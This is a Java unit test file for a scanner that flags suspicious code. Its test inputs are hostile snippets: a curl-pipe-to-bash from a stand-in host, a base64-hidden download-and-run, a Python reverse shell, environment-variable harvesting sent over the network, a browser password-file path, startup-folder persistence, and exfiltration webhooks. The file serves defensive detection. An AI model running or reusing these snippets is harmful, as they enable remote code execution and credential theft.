package io.vigil.scan.analysis;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Set;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;

class TextScannerTest {
  private static Set<Capability> caps(String code, Lang lang) {
    return TextScanner.scan("f", code, lang).stream()
        .map(Signal::capability)
        .collect(Collectors.toSet());
  }

  private static List<String> types(String code, Lang lang) {
    return TextScanner.scan("f", code, lang).stream().map(s -> s.finding().type()).toList();
  }

  @Test
  void scan_jsHttpsRequire_network() {
    assertThat(caps("const https = require('https');", Lang.JS)).contains(Capability.NETWORK);
  }

  @Test
  void scan_jsChildProcess_process() {
    assertThat(caps("const { execSync } = require(\"child_process\");", Lang.JS))
        .contains(Capability.PROCESS);
  }

  @Test
  void scan_pythonExecOfBase64_decodedExecution() {
    assertThat(caps("import base64\nexec(base64.b64decode('cHJpbnQoMSk='))", Lang.PY))
        .contains(Capability.DECODED_EXEC);
  }

  @Test
  void scan_builtinsExecOfImportedDecoder_decodedExecution() {
    String code =
        "__import__('builtins').exec(__import__('builtins').compile(__import__('base64').b64decode(\"cHJpbnQoMSk=\"),'<string>','exec'))";
    assertThat(caps(code, Lang.PY)).contains(Capability.DECODED_EXEC);
  }

  @Test
  void scan_pythonExecOfPlainString_onlyDynamicCodeNotDecoded() {
    assertThat(caps("exec(compile(source, 'x', 'exec'))", Lang.PY))
        .doesNotContain(Capability.DECODED_EXEC);
  }

  @Test
  void scan_jsEvalOfAtob_decodedExecution() {
    assertThat(caps("eval(atob('Y29uc29sZS5sb2coMSk='));", Lang.JS))
        .contains(Capability.DECODED_EXEC);
  }

  @Test
  void scan_stringifiedProcessEnv_environmentHarvest() {
    assertThat(caps("req.write(JSON.stringify(process.env));", Lang.JS))
        .contains(Capability.ENV_HARVEST);
  }

  @Test
  void scan_singleEnvVariableOrKeysForDebug_notHarvest() {
    assertThat(
            caps(
                "const c = process.env.FORCE_COLOR; Object.keys(process.env).filter(k => /^debug_/i.test(k));",
                Lang.JS))
        .doesNotContain(Capability.ENV_HARVEST);
  }

  @Test
  void scan_pythonDictOfEnviron_environmentHarvest() {
    assertThat(caps("data = dict(os.environ)\nrequests.post(u, json=data)", Lang.PY))
        .contains(Capability.ENV_HARVEST, Capability.NETWORK);
  }

  @Test
  void scan_discordWebhookWithId_exfilEndpoint() {
    assertThat(types("URL = 'https://discord.com/api/webhooks/1234567890/abcdefgh'", Lang.PY))
        .contains("webhook-endpoint");
  }

  @Test
  void scan_oastDomain_exfilEndpoint() {
    assertThat(caps("fetch('https://abc123.oastify.com/x')", Lang.JS))
        .contains(Capability.EXFIL_ENDPOINT);
  }

  @Test
  void scan_browserLoginData_stealerTarget() {
    assertThat(
            caps(
                "p = os.path.join(local, 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')",
                Lang.PY))
        .contains(Capability.STEALER_TARGET);
  }

  @Test
  void scan_curlPipeToShell_shellPipe() {
    assertThat(caps("curl -s http://x.example/i.sh | bash", Lang.SHELL))
        .contains(Capability.SHELL_PIPE);
  }

  @Test
  void scan_rawIpUrl_rawIp() {
    assertThat(caps("requests.get('http://45.13.22.7:8080/p')", Lang.PY))
        .contains(Capability.RAW_IP);
  }

  @Test
  void scan_reverseShell_detected() {
    String code = "s=socket.socket();s.connect(('h',1));os.dup2(s.fileno(),0);pty.spawn('/bin/sh')";
    assertThat(caps(code, Lang.PY)).contains(Capability.REVERSE_SHELL);
  }

  @Test
  void scan_codePushedPastWhitespace_hiddenCode() {
    String code = "print('hello')" + " ".repeat(200) + ";import os;os.system('id')\n";
    assertThat(types(code, Lang.PY)).contains("hidden-code");
  }

  @Test
  void scan_obfuscatorNames_strongObfuscation() {
    StringBuilder b = new StringBuilder();
    for (int i = 0; i < 12; i++) {
      b.append("var _0x").append(Integer.toHexString(0xa1b2 + i)).append("=1;");
    }
    assertThat(types(b.toString(), Lang.JS)).contains("obfuscator-names");
  }

  @Test
  void scan_hexEncodedApiNames_strongObfuscationWithTheirCapabilities() {
    // "child_process" and "execSync" hex-encoded
    String code =
        "var a=['6368696c645f70726f63657373','6578656353796e63'];require(x(a[0]))[x(a[1])]('id');";
    assertThat(caps(code, Lang.JS)).contains(Capability.STRONG_OBFUSCATION, Capability.PROCESS);
  }

  @Test
  void scan_base64EncodedPythonCode_decodedAndScannedAgain() {
    // "import os\nos.system('curl http://1.2.3.4/x | sh')"
    String payload =
        java.util.Base64.getEncoder()
            .encodeToString("import os\nos.system('curl http://1.2.3.4/x | sh')".getBytes());
    Set<Capability> c = caps("code = '" + payload + "'\n", Lang.PY);
    assertThat(c).contains(Capability.STRONG_OBFUSCATION, Capability.PROCESS, Capability.RAW_IP);
  }

  @Test
  void scan_dataUriImage_notReportedAsEncodedCode() {
    String png =
        "A".repeat(30)
            + "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==";
    assertThat(caps("img.src = 'data:image/png;base64," + png + "';", Lang.JS))
        .doesNotContain(Capability.STRONG_OBFUSCATION);
  }

  @Test
  void scan_persistenceStartupFolder_detected() {
    assertThat(
            caps(
                "p = r'C:\\Users\\x\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup'",
                Lang.PY))
        .contains(Capability.PERSISTENCE);
  }

  @Test
  void scan_findingHasLineAndEvidence() {
    var s =
        TextScanner.scan(
            "lib/a.js", "// header\n\nconst cp = require('child_process');\n", Lang.JS);
    assertThat(s)
        .anySatisfy(
            x -> {
              assertThat(x.finding().file()).isEqualTo("lib/a.js");
              assertThat(x.finding().line()).isEqualTo(3);
              assertThat(x.finding().evidence()).contains("child_process");
              assertThat(x.finding().why()).isNotBlank();
            });
  }
}
